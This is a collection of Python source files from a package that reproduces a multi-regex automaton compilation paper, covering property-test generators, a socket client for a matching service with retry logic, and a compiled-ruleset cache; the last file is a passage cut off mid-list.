__all__ = ["counting_mfsa_to_dot", "dfa_to_dot", "fsa_to_dot", "mfsa_to_dot"]
