"""repro — MFSA multi-regular-expression compilation and execution.

A faithful, pure-Python reproduction of *"One Automaton to Rule Them All:
Beyond Multiple Regular Expressions Execution"* (CGO 2024): the MFSA
model, the merging-based multi-level compilation framework, the extended
ANML back-end, and the iMFAnt execution engine, together with the
synthetic dataset substrate and the full benchmark harness regenerating
every table and figure of the paper's evaluation.

Quick start::

    from repro import CompileOptions, IMfantEngine, compile_ruleset

    result = compile_ruleset(["he(llo|y) world", "hello w[aeiou]rld"],
                             CompileOptions(merging_factor=0))
    engine = IMfantEngine(result.mfsas[0])
    matches = engine.run(b"... hello world ...").matches
    # -> {(rule_id, end_offset), ...}

See README.md for the architecture overview, DESIGN.md for the system
inventory, and EXPERIMENTS.md for the reproduction results.
"""

from repro import obs
from repro.automata import compile_re_to_fsa
from repro.automata.fsa import Fsa, Transition
from repro.automata.optimize import OptimizeOptions
from repro.anml import read_anml, write_anml
from repro.decompose import PrefilterEngine
from repro.engine import (
    ChunkMapping,
    CostModel,
    IMfantEngine,
    INfantEngine,
    MachineModel,
    SfaScanner,
    fold_mappings,
    run_pool,
    simulate_parallel_latency,
)
from repro.engine.chunkscan import chunk_scan
from repro.engine.spans import SpanFinder, find_spans
from repro.engine.streaming import StreamingMatcher
from repro.frontend import RegexSyntaxError, parse
from repro.labels import CharClass
from repro.mfsa import Mfsa, MergeReport, merge_fsas, merge_ruleset, reference_match
from repro.pipeline import CompilationResult, CompileOptions, StageTimes, compile_ruleset
from repro.similarity import normalized_indel_similarity
from repro.stringmatch import AhoCorasick

__version__ = "1.0.0"

__all__ = [
    "AhoCorasick",
    "CharClass",
    "ChunkMapping",
    "CompilationResult",
    "CompileOptions",
    "CostModel",
    "Fsa",
    "IMfantEngine",
    "INfantEngine",
    "MachineModel",
    "MergeReport",
    "Mfsa",
    "OptimizeOptions",
    "PrefilterEngine",
    "RegexSyntaxError",
    "SfaScanner",
    "SpanFinder",
    "StageTimes",
    "StreamingMatcher",
    "Transition",
    "chunk_scan",
    "compile_re_to_fsa",
    "compile_ruleset",
    "find_spans",
    "fold_mappings",
    "merge_fsas",
    "merge_ruleset",
    "normalized_indel_similarity",
    "obs",
    "parse",
    "read_anml",
    "reference_match",
    "run_pool",
    "simulate_parallel_latency",
    "write_anml",
    "__version__",
]
