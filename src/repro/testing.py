"""Public property-testing utilities (hypothesis strategies + generators).

The library's own test suite drives every engine against oracles using
these strategies; they are exported so downstream users can fuzz their
integrations the same way::

    from hypothesis import given
    from repro.testing import ere_patterns, subject_strings
    from repro import compile_re_to_fsa

    @given(ere_patterns(), subject_strings())
    def test_my_engine(pattern, text):
        ...

Requires the ``hypothesis`` extra (``pip install repro[dev]``); importing
this module without hypothesis installed raises ImportError.
"""

from __future__ import annotations

import random

from hypothesis import strategies as st

#: Default alphabet for generated patterns/subjects: small alphabets
#: maximise collision/overlap coverage per example.
DEFAULT_ALPHABET = "abcd"

#: Seed the test/bench conftests install per test (see :func:`seed_all`).
DEFAULT_TEST_SEED = 0x5EED


def seed_all(seed: int = DEFAULT_TEST_SEED) -> int:
    """Seed every RNG the suite can reach; returns the seed used.

    Non-hypothesis tests and benchmarks that call :mod:`random` (or
    numpy's global RNG) directly become order-independent once each test
    starts from the same state — the conftests install this as an
    autouse fixture so one test's draws can never leak into the next.
    """
    random.seed(seed)
    try:
        import numpy as _np

        _np.random.seed(seed % (2**32))
    except ImportError:  # pragma: no cover - numpy is a hard dep today
        pass
    return seed


@st.composite
def ere_patterns(draw, alphabet: str = DEFAULT_ALPHABET, max_depth: int = 3) -> str:
    """A syntactically valid POSIX ERE over ``alphabet``.

    Covers the constructs the front-end supports: literals, bracket
    expressions, concatenation, alternation, ``* + ?`` and bounded
    repeats.  Depth-bounded so reference simulation stays fast.
    """

    def charclass_fragment() -> str:
        chars = draw(st.lists(st.sampled_from(alphabet), min_size=1, max_size=3, unique=True))
        return "[" + "".join(sorted(chars)) + "]"

    def node(depth: int) -> str:
        if depth >= max_depth:
            return draw(st.sampled_from(alphabet))
        kind = draw(st.sampled_from(
            ["char", "char", "char", "class", "concat", "alt", "star", "plus", "opt", "rep"]))
        if kind == "char":
            return draw(st.sampled_from(alphabet))
        if kind == "class":
            return charclass_fragment()
        if kind == "concat":
            return node(depth + 1) + node(depth + 1)
        if kind == "alt":
            return "(" + node(depth + 1) + "|" + node(depth + 1) + ")"
        if kind == "star":
            return "(" + node(depth + 1) + ")*"
        if kind == "plus":
            return "(" + node(depth + 1) + ")+"
        if kind == "opt":
            return "(" + node(depth + 1) + ")?"
        low = draw(st.integers(min_value=0, max_value=2))
        high = low + draw(st.integers(min_value=0, max_value=2))
        return "(" + node(depth + 1) + "){" + f"{low},{high}" + "}"

    return node(0)


@st.composite
def subject_strings(draw, alphabet: str = DEFAULT_ALPHABET, max_size: int = 24) -> str:
    """An input string over the same alphabet as the patterns."""
    return "".join(draw(st.lists(st.sampled_from(alphabet), max_size=max_size)))


@st.composite
def rulesets(draw, alphabet: str = DEFAULT_ALPHABET, min_size: int = 1, max_size: int = 5) -> list[str]:
    """A small list of patterns, as fed to ``compile_ruleset``."""
    return draw(st.lists(ere_patterns(alphabet=alphabet), min_size=min_size, max_size=max_size))


def random_patterns(seed: int, count: int, alphabet: str = DEFAULT_ALPHABET) -> list[str]:
    """Deterministic (non-hypothesis) random pattern list.

    Useful for parametrised tests and reproducible examples; the same
    ``seed`` always yields the same ruleset.
    """
    rng = random.Random(seed)

    def pattern(depth: int = 0) -> str:
        roll = rng.random()
        if depth > 2 or roll < 0.35:
            return rng.choice(alphabet)
        if roll < 0.6:
            return pattern(depth + 1) + pattern(depth + 1)
        if roll < 0.75:
            return "(" + pattern(depth + 1) + "|" + pattern(depth + 1) + ")"
        if roll < 0.85:
            return "(" + pattern(depth + 1) + ")*"
        if roll < 0.95:
            return "(" + pattern(depth + 1) + ")+"
        return "(" + pattern(depth + 1) + "){1,2}"

    return [pattern() for _ in range(count)]
