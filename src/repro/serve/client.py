"""Blocking client for the serve protocol (CLI + tests + benchmarks).

The server is async so it can juggle thousands of connections; clients
are usually scripts that want one answer, so the client side is plain
blocking sockets — no event loop to stand up, trivially usable from a
REPL::

    with MatchClient.connect(("127.0.0.1", 7071)) as client:
        result = client.match(b"GET /admin/config.php")
        print(result.status, sorted(result.matches))

``connect`` accepts a ``(host, port)`` tuple or a UNIX-socket path
string — the same ``address`` value :class:`~repro.serve.server.
ServerThread` exposes.  Requests carry monotonically increasing ids;
since this client pipelines nothing, responses map 1:1 in order.

Resilience
==========

Two timeouts govern a connection, deliberately decoupled: the
**connect timeout** bounds only the TCP/UNIX dial (a dead host fails
fast), while the **request timeout** bounds each send/receive once
connected (a big scan may legitimately take longer than a dial should).
Historically one ``timeout`` value served both jobs, so tightening the
dial also cut off slow-but-healthy scans.

A connection that dies mid-exchange (peer closed, truncated frame,
reset, silence past the request timeout) raises the typed
:class:`~repro.guard.errors.ConnectionLost` — the stream position is
gone, so the client must re-dial before reuse.  With a
:class:`~repro.serve.resilience.RetryPolicy` attached (the default),
:meth:`MatchClient.match` does exactly that: exponential backoff with
full jitter, reconnect, and a fresh attempt.  Each attempt mints a
fresh request ``id`` but every retry of one logical request carries the
same client-minted ``request_key``; when the first attempt completed
server-side and only the *reply* was lost, the server answers from its
dedup window instead of scanning twice — retries stay idempotent.
"""

from __future__ import annotations

import random
import socket
import time
import uuid
from dataclasses import dataclass, field
from typing import Any, Optional, Sequence, Union

import repro.obs as obs
from repro.guard.errors import ConnectionLost, UsageError
from repro.serve.protocol import (
    FrameError,
    encode_payload,
    recv_frame,
    send_frame,
)
from repro.serve.resilience import RetryPolicy

__all__ = ["ClientResult", "MatchClient"]

Address = Union[tuple[str, int], str]


@dataclass
class ClientResult:
    """One match response, decoded."""

    status: str
    code: int
    matches: set[tuple[int, int]] = field(default_factory=set)
    stats: Optional[dict[str, Any]] = None
    backend: Optional[str] = None
    shards: Optional[int] = None
    error: Optional[str] = None
    #: the trace id this request carried (None when untraced)
    trace_id: Optional[str] = None
    #: server-side span rows shipped back for a traced request (already
    #: adopted into the local tracer when one is active)
    spans: list[dict[str, Any]] = field(default_factory=list)
    raw: dict[str, Any] = field(default_factory=dict)

    @property
    def ok(self) -> bool:
        return self.status == "ok"

    @property
    def partial(self) -> bool:
        return self.status == "partial"

    @property
    def rejected(self) -> bool:
        return self.status == "rejected"

    @property
    def retry_after(self) -> Optional[float]:
        """The server's backoff hint in seconds (rejections), or None."""
        hint = self.raw.get("retry_after_ms")
        return hint / 1000.0 if isinstance(hint, (int, float)) else None


class MatchClient:
    """One connection to a running match service."""

    def __init__(
        self,
        sock: socket.socket,
        address: Optional[Address] = None,
        timeout: Optional[float] = 30.0,
        connect_timeout: Optional[float] = None,
        retry: Optional[RetryPolicy] = None,
    ) -> None:
        self._sock = sock
        self._next_id = 0
        self._address = address
        self._timeout = timeout
        self._connect_timeout = connect_timeout
        self.retry = retry if retry is not None else RetryPolicy()
        self._rng = random.Random()
        self._needs_reconnect = False
        #: reconnects performed over this client's lifetime
        self.reconnects = 0
        #: retried attempts (beyond each operation's first) performed
        self.retries = 0

    @classmethod
    def connect(
        cls,
        address: Address,
        timeout: Optional[float] = 30.0,
        connect_timeout: Optional[float] = None,
        retry: Optional[RetryPolicy] = None,
    ) -> "MatchClient":
        """Open a connection to a TCP ``(host, port)`` or UNIX-path address.

        ``connect_timeout`` bounds only the dial (default: ``timeout``);
        ``timeout`` bounds each request round trip once connected.
        ``retry`` is the :class:`RetryPolicy` for retryable operations
        (pass :meth:`RetryPolicy.none` to fail fast).
        """
        sock = cls._dial(address, timeout, connect_timeout)
        return cls(
            sock,
            address=address,
            timeout=timeout,
            connect_timeout=connect_timeout,
            retry=retry,
        )

    @staticmethod
    def _dial(
        address: Address,
        timeout: Optional[float],
        connect_timeout: Optional[float],
    ) -> socket.socket:
        if isinstance(address, str):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        elif isinstance(address, tuple) and len(address) == 2:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        else:
            raise UsageError(f"bad address {address!r}: need (host, port) or a socket path")
        sock.settimeout(connect_timeout if connect_timeout is not None else timeout)
        try:
            sock.connect(address)
        except OSError as exc:
            sock.close()
            raise UsageError(f"cannot connect to {address!r}: {exc}") from exc
        # the dial is done: from here on the *request* timeout governs
        sock.settimeout(timeout)
        return sock

    # -- request plumbing --------------------------------------------------

    def _reconnect(self) -> None:
        if self._address is None:
            raise ConnectionLost("connection lost and no address to re-dial")
        try:
            self._sock.close()
        except OSError:
            pass
        try:
            self._sock = self._dial(self._address, self._timeout, self._connect_timeout)
        except UsageError as exc:
            raise ConnectionLost(f"reconnect failed: {exc}") from exc
        self._needs_reconnect = False
        self.reconnects += 1

    def _roundtrip(
        self, document: dict[str, Any], retryable: bool = True
    ) -> dict[str, Any]:
        """Send one document, receive its response — under the retry
        policy when ``retryable`` (lost connections re-dial and resend;
        each attempt gets a fresh ``id``).  Non-retryable operations make
        exactly one attempt and surface :class:`ConnectionLost` raw."""
        policy = self.retry if retryable else RetryPolicy.none()
        deadline_at = (
            time.monotonic() + policy.op_deadline
            if policy.op_deadline is not None
            else None
        )
        last_error: Optional[ConnectionLost] = None
        for attempt in range(policy.max_attempts):
            if attempt:
                self.retries += 1
                delay = policy.delay(attempt - 1, self._rng)
                if deadline_at is not None:
                    delay = min(delay, max(0.0, deadline_at - time.monotonic()))
                if delay > 0:
                    time.sleep(delay)
                if self._needs_reconnect:
                    if not policy.reconnect:
                        break
                    try:
                        self._reconnect()
                    except ConnectionLost as exc:
                        last_error = exc
                        if deadline_at is not None and time.monotonic() >= deadline_at:
                            break
                        continue
            self._next_id += 1
            document["id"] = self._next_id
            try:
                send_frame(self._sock, document)
                response = recv_frame(self._sock)
            except ConnectionLost as exc:
                last_error = exc
                self._needs_reconnect = True
                if deadline_at is not None and time.monotonic() >= deadline_at:
                    break
                continue
            except OSError as exc:
                # timeouts land here too: after a missed reply the next
                # frame on this stream would answer the *old* request,
                # so the connection is poisoned either way
                last_error = ConnectionLost(f"serve connection failed: {exc}")
                last_error.__cause__ = exc
                self._needs_reconnect = True
                if deadline_at is not None and time.monotonic() >= deadline_at:
                    break
                continue
            except FrameError as exc:
                raise UsageError(f"serve request failed: {exc}") from exc
            if response.get("id") not in (self._next_id, None):
                raise UsageError(
                    f"response id {response.get('id')} does not match request {self._next_id}"
                )
            if (
                policy.retry_rejected
                and response.get("status") == "rejected"
                and attempt + 1 < policy.max_attempts
            ):
                hint = response.get("retry_after_ms")
                if isinstance(hint, (int, float)) and hint > 0:
                    pause = hint / 1000.0
                    if deadline_at is not None:
                        pause = min(pause, max(0.0, deadline_at - time.monotonic()))
                    time.sleep(pause)
                continue
            return response
        if last_error is None:
            last_error = ConnectionLost(
                f"request not answered within {policy.max_attempts} attempt(s)"
            )
        raise last_error

    # -- operations --------------------------------------------------------

    def match(
        self,
        payload: bytes | str,
        single_match: bool = False,
        deadline_ms: Optional[float] = None,
        trace: bool = False,
    ) -> ClientResult:
        """Scan one payload; returns the decoded response.

        Retryable under the client's :class:`RetryPolicy`: every attempt
        of one logical request shares a ``request_key``, so a retry whose
        predecessor completed server-side is answered from the dedup
        window — never scanned twice, never answered differently.

        ``trace=True`` mints a trace id, sends it with the request, asks
        the server to ship its span rows back, and — when a local tracer
        is active — wraps the round trip in a ``client.match`` span and
        adopts the server-side spans under it, so one call yields one
        stitched client→dispatcher→shard-worker tree.
        """
        data = payload.encode("latin-1") if isinstance(payload, str) else payload
        document: dict[str, Any] = {"op": "match", "payload": encode_payload(data)}
        if single_match:
            document["single_match"] = True
        if deadline_ms is not None:
            document["deadline_ms"] = deadline_ms
        if self.retry.max_attempts > 1:
            document["request_key"] = uuid.uuid4().hex
        trace_id: Optional[str] = None
        if trace:
            trace_id = obs.new_trace_id()
            document["trace_id"] = trace_id
            document["ship_spans"] = True
        client_span = (
            obs.begin_span("client.match", trace_id=trace_id, bytes=len(data))
            if trace
            else obs.NOOP_SPAN
        )
        try:
            response = self._roundtrip(document)
        finally:
            if trace:
                obs.end_span(client_span)
        shipped = response.get("spans") or []
        if trace and shipped:
            tracer = obs.get_tracer()
            if tracer is not None:
                tracer.adopt_spans(
                    shipped,
                    parent=client_span if isinstance(client_span, obs.Span) else None,
                )
        matches = {(rule, end) for rule, end in response.get("matches", [])}
        # ε-accepting rules arrive compactly as all_offsets_rules (they
        # match at every offset — enumerating them on the wire would let
        # one rule inflate the response past the frame ceiling); expand
        # them here against the payload length the client already knows.
        for rule in response.get("all_offsets_rules", []):
            matches.update((rule, end) for end in range(len(data) + 1))
        return ClientResult(
            status=response.get("status", "error"),
            code=response.get("code", 500),
            matches=matches,
            stats=response.get("stats"),
            backend=response.get("backend"),
            shards=response.get("shards"),
            error=response.get("error"),
            trace_id=trace_id,
            spans=shipped,
            raw=response,
        )

    def ping(self) -> bool:
        return self._roundtrip({"op": "ping"}).get("status") == "ok"

    def health(self) -> dict[str, Any]:
        """The server's health document: ``status`` (``ok`` when ready,
        ``unavailable`` otherwise), ``healthy``/``ready`` booleans and a
        per-subsystem ``checks`` map.  Never raises on a 503 — probes
        want the document, not an exception."""
        return self._roundtrip({"op": "health"})

    def server_stats(self) -> dict[str, Any]:
        response = self._roundtrip({"op": "stats"})
        if response.get("status") != "ok":
            raise UsageError(f"stats request failed: {response.get('error')}")
        return response.get("server", {})

    def stats_full(self, prometheus: bool = False) -> dict[str, Any]:
        """The whole ``stats`` response: ``server`` counters plus (when
        the server has a metrics registry) ``metrics`` snapshots and the
        ``latency_ms`` percentile decomposition; ``prometheus=True`` also
        asks for the text exposition form."""
        document: dict[str, Any] = {"op": "stats"}
        if prometheus:
            document["prometheus"] = True
        response = self._roundtrip(document)
        if response.get("status") != "ok":
            raise UsageError(f"stats request failed: {response.get('error')}")
        return response

    def reload(self, patterns: Sequence[str]) -> dict[str, Any]:
        """Hot-swap the server's ruleset (when the server enables it).

        The server compiles the new artifact off the event loop and
        atomically swaps its shard pool; this call returns once the swap
        is live (in-flight requests finish on the old engines).  Not
        retried automatically — a lost reply leaves the swap state
        unknown, and the caller should probe :meth:`health` instead of
        compiling twice."""
        response = self._roundtrip(
            {"op": "reload", "patterns": list(patterns)}, retryable=False
        )
        if response.get("status") != "ok":
            raise UsageError(f"reload failed: {response.get('error')}")
        return response

    def shutdown(self) -> bool:
        """Ask the server to drain and stop; True when acknowledged.
        Never retried — re-dialing a server that is tearing down only
        manufactures confusing failures."""
        return self._roundtrip({"op": "shutdown"}, retryable=False).get("status") == "ok"

    # -- lifecycle ---------------------------------------------------------

    def close(self) -> None:
        try:
            self._sock.close()
        except OSError:
            pass

    def __enter__(self) -> "MatchClient":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
