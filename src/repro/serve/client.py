"""Blocking client for the serve protocol (CLI + tests + benchmarks).

The server is async so it can juggle thousands of connections; clients
are usually scripts that want one answer, so the client side is plain
blocking sockets — no event loop to stand up, trivially usable from a
REPL::

    with MatchClient.connect(("127.0.0.1", 7071)) as client:
        result = client.match(b"GET /admin/config.php")
        print(result.status, sorted(result.matches))

``connect`` accepts a ``(host, port)`` tuple or a UNIX-socket path
string — the same ``address`` value :class:`~repro.serve.server.
ServerThread` exposes.  Requests carry monotonically increasing ids;
since this client pipelines nothing, responses map 1:1 in order.
"""

from __future__ import annotations

import socket
from dataclasses import dataclass, field
from typing import Any, Optional, Union

import repro.obs as obs
from repro.guard.errors import UsageError
from repro.serve.protocol import (
    FrameError,
    encode_payload,
    recv_frame,
    send_frame,
)

__all__ = ["ClientResult", "MatchClient"]

Address = Union[tuple[str, int], str]


@dataclass
class ClientResult:
    """One match response, decoded."""

    status: str
    code: int
    matches: set[tuple[int, int]] = field(default_factory=set)
    stats: Optional[dict[str, Any]] = None
    backend: Optional[str] = None
    shards: Optional[int] = None
    error: Optional[str] = None
    #: the trace id this request carried (None when untraced)
    trace_id: Optional[str] = None
    #: server-side span rows shipped back for a traced request (already
    #: adopted into the local tracer when one is active)
    spans: list[dict[str, Any]] = field(default_factory=list)
    raw: dict[str, Any] = field(default_factory=dict)

    @property
    def ok(self) -> bool:
        return self.status == "ok"

    @property
    def partial(self) -> bool:
        return self.status == "partial"

    @property
    def rejected(self) -> bool:
        return self.status == "rejected"


class MatchClient:
    """One connection to a running match service."""

    def __init__(self, sock: socket.socket) -> None:
        self._sock = sock
        self._next_id = 0

    @classmethod
    def connect(cls, address: Address, timeout: Optional[float] = 30.0) -> "MatchClient":
        """Open a connection to a TCP ``(host, port)`` or UNIX-path address."""
        if isinstance(address, str):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        elif isinstance(address, tuple) and len(address) == 2:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        else:
            raise UsageError(f"bad address {address!r}: need (host, port) or a socket path")
        sock.settimeout(timeout)
        try:
            sock.connect(address)
        except OSError as exc:
            sock.close()
            raise UsageError(f"cannot connect to {address!r}: {exc}") from exc
        return cls(sock)

    # -- request plumbing --------------------------------------------------

    def _roundtrip(self, document: dict[str, Any]) -> dict[str, Any]:
        self._next_id += 1
        document["id"] = self._next_id
        try:
            send_frame(self._sock, document)
            response = recv_frame(self._sock)
        except (OSError, FrameError) as exc:
            raise UsageError(f"serve request failed: {exc}") from exc
        if response.get("id") not in (self._next_id, None):
            raise UsageError(
                f"response id {response.get('id')} does not match request {self._next_id}"
            )
        return response

    # -- operations --------------------------------------------------------

    def match(
        self,
        payload: bytes | str,
        single_match: bool = False,
        deadline_ms: Optional[float] = None,
        trace: bool = False,
    ) -> ClientResult:
        """Scan one payload; returns the decoded response.

        ``trace=True`` mints a trace id, sends it with the request, asks
        the server to ship its span rows back, and — when a local tracer
        is active — wraps the round trip in a ``client.match`` span and
        adopts the server-side spans under it, so one call yields one
        stitched client→dispatcher→shard-worker tree.
        """
        data = payload.encode("latin-1") if isinstance(payload, str) else payload
        document: dict[str, Any] = {"op": "match", "payload": encode_payload(data)}
        if single_match:
            document["single_match"] = True
        if deadline_ms is not None:
            document["deadline_ms"] = deadline_ms
        trace_id: Optional[str] = None
        if trace:
            trace_id = obs.new_trace_id()
            document["trace_id"] = trace_id
            document["ship_spans"] = True
        client_span = (
            obs.begin_span("client.match", trace_id=trace_id, bytes=len(data))
            if trace
            else obs.NOOP_SPAN
        )
        try:
            response = self._roundtrip(document)
        finally:
            if trace:
                obs.end_span(client_span)
        shipped = response.get("spans") or []
        if trace and shipped:
            tracer = obs.get_tracer()
            if tracer is not None:
                tracer.adopt_spans(
                    shipped,
                    parent=client_span if isinstance(client_span, obs.Span) else None,
                )
        matches = {(rule, end) for rule, end in response.get("matches", [])}
        # ε-accepting rules arrive compactly as all_offsets_rules (they
        # match at every offset — enumerating them on the wire would let
        # one rule inflate the response past the frame ceiling); expand
        # them here against the payload length the client already knows.
        for rule in response.get("all_offsets_rules", []):
            matches.update((rule, end) for end in range(len(data) + 1))
        return ClientResult(
            status=response.get("status", "error"),
            code=response.get("code", 500),
            matches=matches,
            stats=response.get("stats"),
            backend=response.get("backend"),
            shards=response.get("shards"),
            error=response.get("error"),
            trace_id=trace_id,
            spans=shipped,
            raw=response,
        )

    def ping(self) -> bool:
        return self._roundtrip({"op": "ping"}).get("status") == "ok"

    def server_stats(self) -> dict[str, Any]:
        response = self._roundtrip({"op": "stats"})
        if response.get("status") != "ok":
            raise UsageError(f"stats request failed: {response.get('error')}")
        return response.get("server", {})

    def stats_full(self, prometheus: bool = False) -> dict[str, Any]:
        """The whole ``stats`` response: ``server`` counters plus (when
        the server has a metrics registry) ``metrics`` snapshots and the
        ``latency_ms`` percentile decomposition; ``prometheus=True`` also
        asks for the text exposition form."""
        document: dict[str, Any] = {"op": "stats"}
        if prometheus:
            document["prometheus"] = True
        response = self._roundtrip(document)
        if response.get("status") != "ok":
            raise UsageError(f"stats request failed: {response.get('error')}")
        return response

    def shutdown(self) -> bool:
        """Ask the server to drain and stop; True when acknowledged."""
        return self._roundtrip({"op": "shutdown"}).get("status") == "ok"

    # -- lifecycle ---------------------------------------------------------

    def close(self) -> None:
        try:
            self._sock.close()
        except OSError:
            pass

    def __enter__(self) -> "MatchClient":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()
