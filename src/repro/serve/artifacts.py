"""Content-addressed store of compiled rulesets (the serve-time cache).

A resident matching service must not pay the compile pipeline on every
(re)start: the MFSAs for a ruleset + options pair are a pure function of
their inputs, so they are cached under a content-hash key.  The key
covers every knob that changes the compiled output (the pattern list in
rule-id order plus the :class:`~repro.pipeline.compiler.CompileOptions`
fields that shape the automata); budgets and ANML emission do not alter
the MFSAs and are deliberately excluded.

One artifact file is one JSON document: the key, the fingerprint it was
derived from, and the MFSAs via :mod:`repro.mfsa.serialize` (exact,
property-tested round trips).  ``get_or_compile`` is the single entry
point workers and servers use::

    store = ArtifactStore(Path("~/.cache/repro-serve"))
    artifact = store.get_or_compile(patterns)      # compiles once
    artifact = store.get_or_compile(patterns)      # loads from disk

Cache hits emit a ``serve.artifact.load`` span and **no** ``compile``
span — the absence of a recompile is observable in the trace (tested).
A corrupt or version-skewed cache file is treated as a miss and
overwritten, never trusted.
"""

from __future__ import annotations

import contextlib
import dataclasses
import hashlib
import json
import os
import tempfile
from dataclasses import dataclass
from pathlib import Path
from typing import Optional, Sequence

import repro.obs as obs
from repro.guard.errors import UsageError
from repro.mfsa.model import Mfsa
from repro.mfsa.serialize import MfsaJsonError, mfsa_from_dict, mfsa_to_dict
from repro.pipeline.compiler import CompileOptions, compile_ruleset

__all__ = ["Artifact", "ArtifactStore", "ARTIFACT_FORMAT", "ARTIFACT_VERSION", "ruleset_key"]

ARTIFACT_FORMAT = "repro-serve-artifact"
ARTIFACT_VERSION = 1


def _fingerprint(patterns: Sequence[str], options: CompileOptions) -> dict:
    """The canonical JSON-able identity of a compiled ruleset.

    Only fields that change the produced MFSAs participate; ``budget``
    (a limit, not a shape) and ``emit_anml`` (a sibling output) do not.
    """
    return {
        "format": ARTIFACT_FORMAT,
        "version": ARTIFACT_VERSION,
        "patterns": list(patterns),
        "merging_factor": options.merging_factor,
        "grouping": options.grouping,
        "stratify_charclasses": options.stratify_charclasses,
        "seed_cap": options.seed_cap,
        "min_walk_len": options.min_walk_len,
        "reduce_mfsa": options.reduce_mfsa,
        "counting": options.counting,
        "count_threshold": options.count_threshold,
        "optimize": dataclasses.asdict(options.optimize),
    }


def ruleset_key(patterns: Sequence[str], options: CompileOptions | None = None) -> str:
    """The content-hash key for a ruleset + options pair (hex sha256)."""
    options = options or CompileOptions()
    blob = json.dumps(_fingerprint(patterns, options), sort_keys=True).encode()
    return hashlib.sha256(blob).hexdigest()


@dataclass
class Artifact:
    """One compiled ruleset as the service consumes it."""

    key: str
    patterns: list[str]
    mfsas: list[Mfsa]
    #: True when this came off disk instead of the compile pipeline
    loaded_from_cache: bool
    #: where the artifact lives on disk (None for in-memory-only stores)
    path: Optional[Path] = None

    @property
    def num_rules(self) -> int:
        return len(self.patterns)

    @property
    def total_states(self) -> int:
        return sum(m.num_states for m in self.mfsas)


class ArtifactStore:
    """Directory-backed cache of compiled rulesets keyed by content hash."""

    def __init__(self, root: Path | str) -> None:
        self.root = Path(root).expanduser()
        self.root.mkdir(parents=True, exist_ok=True)

    def path_for(self, key: str) -> Path:
        return self.root / f"{key}.mfsa.json"

    # -- load / save ------------------------------------------------------

    def load(self, key: str) -> Optional[Artifact]:
        """The cached artifact for ``key``, or None on miss/corruption."""
        path = self.path_for(key)
        try:
            data = json.loads(path.read_text())
        except (OSError, json.JSONDecodeError):
            return None
        if (
            not isinstance(data, dict)
            or data.get("format") != ARTIFACT_FORMAT
            or data.get("version") != ARTIFACT_VERSION
            or data.get("key") != key
        ):
            return None
        try:
            mfsas = [mfsa_from_dict(doc) for doc in data["mfsas"]]
            patterns = [str(p) for p in data["patterns"]]
        except (KeyError, TypeError, MfsaJsonError):
            return None
        return Artifact(
            key=key, patterns=patterns, mfsas=mfsas, loaded_from_cache=True, path=path
        )

    def save(self, key: str, patterns: Sequence[str], mfsas: Sequence[Mfsa]) -> Path:
        """Persist an artifact atomically (write + rename)."""
        path = self.path_for(key)
        document = {
            "format": ARTIFACT_FORMAT,
            "version": ARTIFACT_VERSION,
            "key": key,
            "patterns": list(patterns),
            "mfsas": [mfsa_to_dict(m) for m in mfsas],
        }
        fd, tmp = tempfile.mkstemp(dir=self.root, suffix=".tmp")
        try:
            with os.fdopen(fd, "w") as handle:
                json.dump(document, handle)
            os.replace(tmp, path)
        except BaseException:
            with contextlib.suppress(OSError):
                os.unlink(tmp)
            raise
        return path

    # -- the single entry point -------------------------------------------

    def get_or_compile(
        self, patterns: Sequence[str], options: CompileOptions | None = None
    ) -> Artifact:
        """Load the compiled ruleset from cache, or compile and persist it.

        The compile path runs the full pipeline (so spans/budgets behave
        exactly as a direct :func:`compile_ruleset` call); the load path
        touches only the serializer.
        """
        if not patterns:
            raise UsageError("cannot serve an empty ruleset")
        options = options or CompileOptions()
        key = ruleset_key(patterns, options)
        cached = self.load(key)
        if cached is not None:
            with obs.span(
                "serve.artifact.load",
                key=key[:12],
                rules=len(cached.patterns),
                mfsas=len(cached.mfsas),
            ):
                pass
            return cached
        if options.emit_anml:
            options = dataclasses.replace(options, emit_anml=False)
        result = compile_ruleset(patterns, options)
        path = self.save(key, patterns, result.mfsas)
        return Artifact(
            key=key,
            patterns=list(patterns),
            mfsas=result.mfsas,
            loaded_from_cache=False,
            path=path,
        )
