"""repro.serve — the resident sharded matching service.

The serving layer on top of the compile→match pipeline (docs/serving.md):

* :mod:`repro.serve.artifacts` — content-addressed cache of compiled
  rulesets (:class:`ArtifactStore`): compile once, every later start —
  and every worker process — loads the MFSAs via
  :mod:`repro.mfsa.serialize` instead of recompiling;
* :mod:`repro.serve.shards` — :class:`ShardPool`, data-parallel payload
  scanning with chunkscan's overlap/stitch semantics, per-worker
  :meth:`~repro.engine.imfant.IMfantEngine.fork` engines, deadline-
  bounded partial results and the guard backend-degradation ladder;
* :mod:`repro.serve.protocol` — length-prefixed JSON frames with
  HTTP-flavoured status codes (200 ok / 206 partial / 429 rejected);
* :mod:`repro.serve.server` — the asyncio front door: request batching
  and coalescing, bounded-queue backpressure, per-request
  :class:`~repro.guard.budget.Budget` deadlines, ``serve_*`` metrics;
* :mod:`repro.serve.client` — blocking :class:`MatchClient` for
  scripts, tests and the ``repro client`` CLI, with retry/reconnect
  under a :class:`RetryPolicy`;
* :mod:`repro.serve.resilience` — the self-healing primitives:
  :class:`RetryPolicy` (backoff + full jitter), :class:`DedupWindow`
  (idempotent-retry replay), :class:`AdmissionController` (CoDel-style
  overload shedding) and :class:`ShardSupervisor` (worker restart
  backoff + circuit breaker); see docs/robustness.md.

Quick start::

    from repro.serve import ArtifactStore, MatchClient, ServeConfig, ServerThread

    artifact = ArtifactStore("/tmp/repro-cache").get_or_compile(patterns)
    with ServerThread(artifact, ServeConfig(shards=4)) as address:
        with MatchClient.connect(address) as client:
            result = client.match(payload)
"""

from __future__ import annotations

from repro.serve.artifacts import Artifact, ArtifactStore, ruleset_key
from repro.serve.client import ClientResult, MatchClient
from repro.serve.protocol import (
    MAX_FRAME_BYTES,
    STATUS_CODES,
    FrameError,
    MatchRequest,
)
from repro.serve.resilience import (
    AdmissionController,
    DedupWindow,
    RetryPolicy,
    ShardSupervisor,
)
from repro.serve.server import MatchServer, MatchService, ServeConfig, ServerThread
from repro.serve.shards import (
    ShardJob,
    ShardPool,
    ShardScanResult,
    plan_shards,
    rebase_matches,
)

__all__ = [
    "Artifact",
